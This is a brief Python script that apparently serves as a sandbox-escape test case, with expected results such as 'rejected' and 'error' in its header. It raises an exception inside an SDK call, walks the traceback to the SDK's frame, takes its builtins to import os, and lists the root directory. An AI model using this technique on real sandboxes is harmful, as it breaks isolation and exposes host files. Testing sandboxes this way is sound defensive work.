# fence: rejected | walls: error
from client_sdk import kb
class Passage(dict):
    def __getitem__(self, name):
        raise ValueError(name)
try:
    kb.read_excerpt(Passage(passage_id="a"))
except ValueError as error:
    frame = error.__traceback__.tb_next.tb_frame
os = frame.f_globals["__builtins__"]["__import__"]("os")
print("BREACHED" if os.listdir("/") else "empty")
